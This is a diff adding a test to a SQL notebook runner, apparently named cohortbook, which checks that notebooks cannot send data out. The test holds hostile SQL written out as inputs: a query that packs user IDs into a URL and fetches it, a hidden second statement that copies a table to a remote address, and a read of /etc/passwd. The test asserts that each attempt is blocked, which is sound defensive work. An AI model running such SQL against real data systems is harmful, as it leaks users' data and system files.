@@ -4,6 +4,7 @@ import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { promisify } from 'node:util';
 import { beforeAll, describe, expect, test } from 'vitest';
+import { startRecordingServer } from '../helpers/recording-server.ts';
 
 const run = promisify(execFile);
 const ROOT = resolve(import.meta.dirname, '..', '..');
@@ -135,6 +136,29 @@ describe('cohortbook run', () => {
     // a file outside is fine when the person names it
     const named = await cohortbook('run', join(inner, 'nb.md'), '--data', `events=${join(dir, 'orders.csv')}`, '--map', 'event=:purchase', '--out', join(inner, 'nb.html'));
     expect(named.code).toBe(0);
+  });
+
+  test.each(['wasm', 'native'])('a notebook whose SQL tries to send the data out gets nothing out, on %s (issue 14.1)', async (engine) => {
+    const recorder = await startRecordingServer();
+    try {
+      const notebook = join(dir, `exfil-${engine}.md`);
+      writeFileSync(notebook, [
+        '```sql', `SET VARIABLE u = '${recorder.url}/leak?d=' || (SELECT string_agg(user_id, ',') FROM events)`, '```', '',
+        '```sql', "SELECT * FROM read_csv(getvariable('u'))", '```', '',
+        '```sql id=two', `SELECT 1 AS x; COPY (SELECT * FROM events) TO '${recorder.url}/copy.csv'`, '```', '',
+        '```sql', "SELECT * FROM read_csv('/etc/passwd')", '```', '',
+      ].join('\n'));
+      const { code, stdout } = await cohortbook('run', notebook, '--engine', engine, '--data', `events=${join(dir, 'orders.csv')}`, '--map', 'event=:purchase', '--out', join(dir, `exfil-${engine}.html`));
+      expect(code).toBe(1);
+      expect(JSON.parse(stdout).failed).toEqual([
+        { cell: 2, name: null, error: expect.stringMatching(/^Permission Error: Cannot access file "http:\/\/127\.0\.0\.1:\d+\/leak\?d=c1,c2/) },
+        { cell: 3, name: 'two', error: 'a SQL cell runs one statement, and this one holds 2 (the second begins at line 1, column 16): put each in a cell of its own' },
+        { cell: 4, name: null, error: expect.stringMatching(/^Permission Error: Cannot access file "\/etc\/passwd"/) },
+      ]);
+      expect(recorder.requests).toEqual([]);
+    } finally {
+      await recorder.close();
+    }
   });
 
   test('a missing notebook is named', async () => {
